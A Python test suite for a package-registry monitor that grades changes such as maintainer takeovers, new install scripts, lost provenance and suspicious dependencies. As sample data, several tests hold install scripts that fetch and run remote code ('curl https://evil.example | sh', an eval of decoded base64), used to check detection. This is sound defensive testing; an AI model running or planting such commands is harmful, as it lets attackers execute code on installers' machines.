"""What counts as a change, and what does not: one claim a test, from two literals."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from msgspec import UNSET
from msgspec.structs import replace

from config.settings import Thresholds
from config.severity import Severity
from monitor.changes.compare import compare, history
from monitor.changes.findings import finding
from monitor.changes.kinds import KINDS
from monitor.changes.model import Change, Context
from monitor.observations import Account, Package, Release, Standing

NOW = datetime(2026, 11, 20, 12, tzinfo=UTC)
CONTEXT = Context(now=NOW, thresholds=Thresholds())
ALICE, BOB = Account("alice", "alice@alice.example"), Account("bob", "bob@bob.example")


def release(version: str, days_ago: float = 0, **told: Any) -> Release:
    facts: dict[str, Any] = {
        "published_at": NOW - timedelta(days=days_ago),
        "publisher": ALICE,
        "trusted_publisher": "",
        "approver": "",
        "maintainers": (ALICE,),
        "scripts": {},
        "implicit_build": False,
        "integrity": {"tarball": f"sha512-{version}"},
        "provenance": "",
        "dependencies": {},
        "deprecated": "",
        "npm_version": "10.2.0",
        "node_version": "20.1.0",
        "git_head": "abc",
        "size": 10_000,
        "files": 10,
        "repository": "https://forge.example/alice/left-pad",
        "licence": "MIT",
    }
    return Release(version=version, **(facts | told))


def package(*releases: Release, **told: Any) -> Package:
    served = releases or tuple(release(f"1.{minor}.0", 100 - 10 * minor) for minor in range(6))
    facts: dict[str, Any] = {
        "standing": Standing.ACTIVE,
        "maintainers": (ALICE,),
        "releases": {one.version: one for one in served},
        "latest": served[-1].version,
        "dist_tags": {"latest": served[-1].version},
        "deprecated": "",
        "withdrawn": {},
    }
    return Package(ecosystem="npm", name="left-pad", **(facts | told))


def published(before: Package, new: Release) -> Package:
    releases = {**(before.releases or {}), new.version: new}
    return replace(before, releases=releases, latest=new.version, dist_tags={"latest": new.version})


def kinds(before: Package, after: Package, context: Context = CONTEXT) -> dict[str, Change]:
    return {change.kind: change for change in compare(before, after, context)}


def of_release(**told: Any) -> dict[str, Change]:
    """The kinds that one new release of an ordinary package shows."""
    before = package()
    return kinds(before, published(before, release("1.6.0", **told)))


def test_an_ordinary_release_is_news_and_nothing_else() -> None:
    assert set(of_release()) == {"release-published"}


def test_a_new_maintainer_is_named() -> None:
    change = kinds(package(), package(maintainers=(ALICE, BOB)))["maintainer-added"]
    assert (change.account, change.after) == ("bob", "bob")


def test_the_order_of_maintainers_says_nothing() -> None:
    assert kinds(package(maintainers=(ALICE, BOB)), package(maintainers=(BOB, ALICE))) == {}


def test_a_mirror_without_maintainers_raises_nothing() -> None:
    assert kinds(package(), package(maintainers=UNSET)) == {}
    assert kinds(package(maintainers=UNSET), package()) == {}


def test_a_maintainer_who_joins_a_package_silent_for_years_is_grave() -> None:
    silent = package(*(release(f"1.{n}.0", 1500 - n) for n in range(4)))
    assert kinds(silent, replace(silent, maintainers=(ALICE, BOB)))["maintainer-added"].severity == Severity.HIGH


def test_nobody_left_of_the_earlier_maintainers_is_ownership_replaced() -> None:
    assert "ownership-replaced" in kinds(package(), package(maintainers=(BOB,)))


def test_owners_who_published_it_before_are_no_strangers() -> None:
    before = package(release("1.0.0", 90, publisher=BOB, maintainers=(BOB,)), release("1.1.0", 10))
    change = kinds(before, replace(before, maintainers=(BOB,)))["ownership-replaced"]
    assert change.severity == Severity.MEDIUM


def test_owners_whose_build_vouches_for_them_are_less_alarming() -> None:
    place = {"repository": "https://forge.example/alice/left-pad"}
    before = package(**place)
    built = replace(published(before, release("1.6.0", provenance="slsa")), maintainers=(BOB,))
    assert kinds(before, built)["ownership-replaced"].severity == Severity.MEDIUM
    moved = replace(built, repository="https://forge.example/bob/left-pad")
    assert kinds(before, moved)["ownership-replaced"].severity is None


def test_a_name_that_is_handed_on_with_a_new_line_is_less_alarming() -> None:
    before = package()
    for version, severity in (("2.0.0", Severity.MEDIUM), ("1.6.0", None)):
        after = replace(published(before, release(version, publisher=BOB)), maintainers=(BOB,))
        assert kinds(before, after)["ownership-replaced"].severity == severity


def test_a_hand_over_is_one_alert() -> None:
    before = package()
    found = kinds(before, replace(before, maintainers=(BOB,)))
    told = {
        finding(change, at=NOW, reach=(), severity_overrides={}).cause
        for kind, change in found.items()
        if kind in {"maintainer-added", "maintainer-removed", "ownership-replaced"}
    }
    assert len(told) == 1


def test_a_newcomer_who_is_left_alone_is_more_than_one_of_the_old_who_is() -> None:
    both = package(maintainers=(ALICE, BOB))
    assert kinds(both, replace(both, maintainers=(BOB,)))["maintainer-removed"].severity == Severity.MEDIUM
    assert kinds(both, replace(both, maintainers=(ALICE,)))["maintainer-removed"].severity is None


def test_a_publisher_who_is_never_listed_is_told_once() -> None:
    before = package(*(release(f"1.{n}.0", 90 - n, publisher=BOB) for n in range(3)))
    assert "publisher-not-maintainer" not in kinds(before, published(before, release("1.3.0", publisher=BOB)))


def test_a_pseudo_account_is_no_new_person() -> None:
    actions = Account("GitHub Actions", "npm-oidc-no-reply@github.com")
    assert kinds(package(), package(maintainers=(ALICE, actions))) == {}
    assert "publisher-changed" not in of_release(publisher=actions, trusted_publisher="github")


def test_the_first_release_of_an_account_is_seen() -> None:
    change = of_release(publisher=BOB, maintainers=(ALICE, BOB))["publisher-changed"]
    assert (change.before, change.after) == ("alice", "bob")


def test_an_account_that_published_before_is_no_news() -> None:
    before = package(release("1.0.0", 90, publisher=BOB), *(release(f"1.{n}.0", 80 - n) for n in range(1, 6)))
    after = published(before, release("1.6.0", publisher=BOB, maintainers=(ALICE, BOB)))
    assert "publisher-changed" not in kinds(before, after)


def test_a_publisher_who_is_not_listed_is_seen() -> None:
    assert "publisher-not-maintainer" in of_release(publisher=BOB)


@pytest.mark.parametrize("script", ["node setup.js", "curl https://evil.example | sh", "node -e 'eval(atob(x))'"])
def test_a_script_after_releases_without_one_is_grave(script: str) -> None:
    change = of_release(scripts={"postinstall": script})["install-script-added"]
    assert change.severity == Severity.HIGH


def test_a_build_that_anybody_knows_is_less_grave() -> None:
    change = of_release(scripts={"install": "node-gyp rebuild"})["install-script-added"]
    assert change.severity == Severity.MEDIUM


def test_an_implicit_build_on_a_plain_package_is_grave() -> None:
    change = of_release(scripts={"install": "node-gyp rebuild"}, implicit_build=True)["install-script-added"]
    assert change.severity == Severity.HIGH


@pytest.mark.parametrize(
    ("old", "new", "severity"),
    [
        ({"install": "node-gyp rebuild"}, {"postinstall": "node collect.js"}, Severity.HIGH),
        ({"install": "node build.js"}, {"preinstall": "node collect.js"}, Severity.HIGH),
        ({"install": "node build.js"}, {"postinstall": "node clean.js"}, Severity.MEDIUM),
        ({"install": "node build.js"}, {"postinstall": "node-gyp rebuild"}, Severity.LOW),
    ],
)
def test_one_more_script_weighs_by_what_ran_before(
    old: dict[str, str], new: dict[str, str], severity: Severity
) -> None:
    before = package(*(release(f"1.{n}.0", 90 - n, scripts=old) for n in range(6)))
    found = kinds(before, published(before, release("1.6.0", scripts=old | new)))
    assert found["install-script-added"].severity == severity


def test_a_script_on_a_new_line_reaches_nobody_by_itself() -> None:
    before = package()
    for key, severity in (("postinstall", Severity.MEDIUM), ("preinstall", Severity.HIGH)):
        found = kinds(before, published(before, release("2.0.0", scripts={key: "node setup.js"})))
        assert found["install-script-added"].severity == severity


def test_a_script_that_becomes_alarming_is_grave() -> None:
    before = package(*(release(f"1.{n}.0", 90 - n, scripts={"postinstall": "node build.js"}) for n in range(5)))
    after = published(before, release("1.6.0", scripts={"postinstall": "node build.js; curl x.example|sh"}))
    assert kinds(before, after)["install-script-changed"].severity == Severity.HIGH


def test_a_source_build_where_wheels_used_to_be_is_code_on_install() -> None:
    wheels = tuple(release(f"1.{n}", 90 - n, scripts=UNSET, source_build=False) for n in range(5))
    before = replace(package(*wheels), ecosystem="pypi", dist_tags=UNSET)
    after = published(before, release("1.6", scripts=UNSET, source_build=True))
    assert "install-script-added" in kinds(before, after)


def test_a_release_after_years_of_silence_is_a_revival() -> None:
    silent = package(*(release(f"1.{n}.0", 1500 - n) for n in range(4)))
    change = kinds(silent, published(silent, release("1.6.0")))["dormant-revival"]
    assert change.severity is None
    assert KINDS["dormant-revival"].severity == Severity.HIGH
    assert change.happened_at == NOW


@pytest.mark.parametrize("version", ["2.0.0", "1.7.0-beta.1"])
def test_a_revival_that_no_range_takes_is_less_grave(version: str) -> None:
    silent = package(*(release(f"1.{n}.0", 1500 - n) for n in range(4)))
    assert kinds(silent, published(silent, release(version)))["dormant-revival"].severity == Severity.MEDIUM


def test_a_release_of_an_older_line_reaches_those_who_stayed_on_it() -> None:
    silent = package(release("1.0.0", 1600), release("2.0.0", 1500))
    assert kinds(silent, published(silent, release("1.0.1")))["dormant-revival"].severity is None


def test_provenance_that_was_a_habit_and_is_gone_is_grave() -> None:
    before = package(*(release(f"1.{n}.0", 90 - n, provenance="slsa") for n in range(6)))
    assert kinds(before, published(before, release("1.6.0")))["provenance-lost"].severity == Severity.HIGH


def test_provenance_is_compared_within_a_release_line() -> None:
    before = package(
        *(release(f"1.{n}.0", 90 - n) for n in range(3)),
        *(release(f"2.{n}.0", 60 - n, provenance="slsa") for n in range(6)),
    )
    assert "provenance-lost" not in kinds(before, published(before, release("1.3.0")))


def test_a_staged_release_shows_its_approver_and_has_lost_nothing() -> None:
    before = package(*(release(f"1.{n}.0", 90 - n, trusted_publisher="github") for n in range(6)))
    assert "provenance-lost" not in kinds(before, published(before, release("1.6.0", approver="alice")))


def test_a_dependency_that_is_days_old_is_grave() -> None:
    before = package()
    after = published(before, release("1.6.0", dependencies={"fresh": "^1.0.0"}))
    context = replace(CONTEXT, published={"fresh": NOW - timedelta(days=1)})
    assert kinds(before, after, context)["dependency-added"].severity == Severity.HIGH
    old = replace(CONTEXT, published={"fresh": NOW - timedelta(days=900)})
    assert kinds(before, after, old)["dependency-added"].severity is None


@pytest.mark.parametrize(
    "reference", ["git+https://forge.example/x.git", "someone/repo#main", "https://x.example/a.tgz"]
)
def test_a_dependency_past_the_registry_is_grave(reference: str) -> None:
    assert of_release(dependencies={"x": reference})["dependency-added"].severity == Severity.HIGH


def test_a_dependency_that_is_taken_from_elsewhere_from_now_on_is_new() -> None:
    past = [release(f"1.{n}.0", 90 - n, dependencies={"x": "^1.0.0"}) for n in range(6)]
    before = package(*past)
    moved = kinds(before, published(before, release("1.6.0", dependencies={"x": "github:bob/x#abc"})))
    assert moved["dependency-added"].severity == Severity.HIGH
    aliased = kinds(before, published(before, release("1.5.1", dependencies={"x": "npm:y@^1.0.0"})))
    assert aliased["dependency-added"].severity is None
    raised = kinds(before, published(before, release("1.6.0", dependencies={"x": "^2.0.0"})))
    assert "dependency-added" not in raised


def test_one_new_dependency_in_a_patch_is_more_than_one_in_a_minor_release() -> None:
    before = package()
    patch, minor = (release(version, dependencies={"x": "^1.0.0"}) for version in ("1.5.1", "1.6.0"))
    assert kinds(before, published(before, patch))["dependency-added"].severity == Severity.LOW
    assert kinds(before, published(before, minor))["dependency-added"].severity is None


def test_other_bytes_under_the_same_version_are_seen() -> None:
    before = package()
    releases = dict(before.releases or {})
    releases["1.2.0"] = replace(releases["1.2.0"], integrity={"tarball": "sha512-other"})
    assert set(kinds(before, replace(before, releases=releases))) == {"integrity-changed"}


def test_another_algorithm_for_the_same_bytes_is_no_change() -> None:
    before = package()
    releases = dict(before.releases or {})
    releases["1.2.0"] = replace(releases["1.2.0"], integrity={"tarball": "sha1-abc"})
    assert kinds(before, replace(before, releases=releases)) == {}


def test_a_wheel_that_is_added_later_changes_no_bytes() -> None:
    one = release("1.0", 10, integrity={"x.tar.gz": "sha256:a"})
    more = replace(one, integrity={"x.tar.gz": "sha256:a", "x.whl": "sha256:b"})
    assert kinds(package(one), package(more)) == {}


def test_a_version_that_is_gone_is_seen_once() -> None:
    before = package()
    fewer = {version: one for version, one in (before.releases or {}).items() if version != "1.1.0"}
    assert set(kinds(before, replace(before, releases=fewer))) == {"version-unpublished"}


def test_a_document_of_one_version_takes_no_other_away() -> None:
    before = package()
    latest = {"1.5.0": (before.releases or {})["1.5.0"]}
    assert kinds(before, replace(before, releases=latest, complete=False)) == {}


def test_a_tag_that_follows_a_new_release_is_not_moved_by_hand() -> None:
    assert "dist-tag-moved" not in of_release()


def test_a_tag_that_goes_back_while_the_new_version_stays_is() -> None:
    before = package()
    after = replace(before, latest="1.2.0", dist_tags={"latest": "1.2.0"})
    assert kinds(before, after)["dist-tag-moved"].severity == Severity.MEDIUM


def test_deprecation_comes_and_goes() -> None:
    assert set(kinds(package(), package(deprecated="use right-pad"))) == {"deprecated"}
    assert set(kinds(package(deprecated="use right-pad"), package())) == {"undeprecated"}
    assert kinds(package(), package(deprecated=UNSET)) == {}


@pytest.mark.parametrize(
    ("standing", "kind"),
    [
        (Standing.REMOVED, "package-removed"),
        (Standing.SECURITY_PLACEHOLDER, "security-placeholder"),
        (Standing.ARCHIVED, "project-archived"),
        (Standing.QUARANTINED, "project-quarantined"),
    ],
)
def test_what_a_registry_says_of_the_whole_package(standing: Standing, kind: str) -> None:
    assert kind in kinds(package(), package(standing=standing))
    assert kinds(package(standing=UNSET), package(standing=standing)) == {}


def test_a_real_registry_behind_a_mirror_reveals_a_past_and_no_news() -> None:
    bare = tuple(
        replace(one, publisher=UNSET, maintainers=UNSET, published_at=UNSET, provenance=UNSET, trusted_publisher=UNSET)
        for one in (package().releases or {}).values()
    )
    assert kinds(package(*bare, maintainers=UNSET), package()) == {}


def test_history_is_dated_when_it_happened() -> None:
    past = package(release("1.0.0", 300), release("1.1.0", 200, publisher=BOB, maintainers=(ALICE, BOB)))
    told = {change.kind: change for change in history(past, CONTEXT)}
    assert told["publisher-changed"].happened_at == NOW - timedelta(days=200)
    assert told["maintainer-added"].happened_at == NOW - timedelta(days=200)


def test_findings_of_one_release_have_one_cause() -> None:
    told = of_release(publisher=BOB, scripts={"postinstall": "node x.js"}).values()
    causes = {finding(change, at=NOW, reach=(), severity_overrides={}).cause for change in told}
    assert causes == {"release:pkg:npm/left-pad@1.6.0"}


def test_one_account_on_many_packages_has_one_cause() -> None:
    change = kinds(package(), package(maintainers=(ALICE, BOB)))["maintainer-added"]
    elsewhere = replace(change, subject="pkg:npm/right-pad")
    told = [finding(one, at=NOW, reach=(), severity_overrides={}) for one in (change, elsewhere)]
    assert {one.cause for one in told} == {"account:npm:~bob"}


def test_every_kind_says_what_it_is_why_it_matters_and_what_to_do() -> None:
    for kind in KINDS.values():
        told = finding(
            Change(kind=kind.id, subject="pkg:npm/left-pad", before="{0}", after="{evil[", version="1"),
            at=NOW,
            reach=(),
            severity_overrides={},
        )
        assert told.title
        assert kind.why
        assert kind.advice


accounts = st.builds(Account, st.sampled_from(["alice", "bob", "eve", "npm"]), st.sampled_from(["", "a@b.example"]))
releases = st.builds(
    release,
    st.from_regex(r"[0-3]\.[0-3]\.[0-9](-rc\.1)?", fullmatch=True),
    st.floats(0, 4000),
    publisher=st.one_of(st.just(UNSET), accounts),
    scripts=st.sampled_from([UNSET, {}, {"postinstall": "node x.js"}]),
    provenance=st.sampled_from([UNSET, "", "slsa"]),
    maintainers=st.one_of(st.just(UNSET), st.lists(accounts, max_size=3).map(tuple)),
    published_at=st.one_of(st.just(UNSET), st.floats(0, 4000).map(lambda days: NOW - timedelta(days=days))),
)
packages = st.lists(releases, min_size=1, max_size=8).map(lambda found: package(*found))


@settings(max_examples=60, deadline=None)
@given(packages)
def test_the_same_observation_twice_is_no_change(one: Package) -> None:
    assert compare(one, one, CONTEXT) == []


@settings(max_examples=60, deadline=None)
@given(packages)
def test_facts_that_become_unknown_are_no_change(one: Package) -> None:
    silent = replace(
        one, standing=UNSET, maintainers=UNSET, releases=UNSET, dist_tags=UNSET, latest=UNSET, deprecated=UNSET
    )
    assert compare(one, silent, CONTEXT) == []
    assert compare(silent, one, CONTEXT) == []


@settings(max_examples=60, deadline=None)
@given(packages, packages)
def test_every_change_can_be_told(before: Package, after: Package) -> None:
    for change in compare(before, after, CONTEXT):
        assert finding(change, at=NOW, reach=(), severity_overrides={}).title


@settings(max_examples=40, deadline=None)
@given(packages)
def test_the_history_of_a_beginning_is_the_beginning_of_the_history(one: Package) -> None:
    names = list(one.releases or {})
    beginning = replace(one, releases={name: (one.releases or {})[name] for name in names[: len(names) // 2 + 1]})
    short, whole = history(beginning, CONTEXT), history(one, CONTEXT)
    assert whole[: len(short)] == short


def test_who_takes_over_a_name_of_which_nothing_was_left_shows_by_what_comes_then() -> None:
    once = package()
    emptied = replace(once, releases={}, latest=UNSET, dist_tags={})
    context = Context(now=NOW, thresholds=Thresholds(), withdrawn=once.releases or {})
    taken = release("2.0.0", publisher=BOB, maintainers=(BOB,), scripts={"postinstall": "node x.js"})
    again = replace(emptied, releases={"2.0.0": taken}, maintainers=(BOB,), latest="2.0.0")
    assert {"release-published", "publisher-changed", "install-script-added"} <= kinds(emptied, again, context).keys()
    assert "release-published" not in kinds(emptied, again), "a past that was never told is no news"
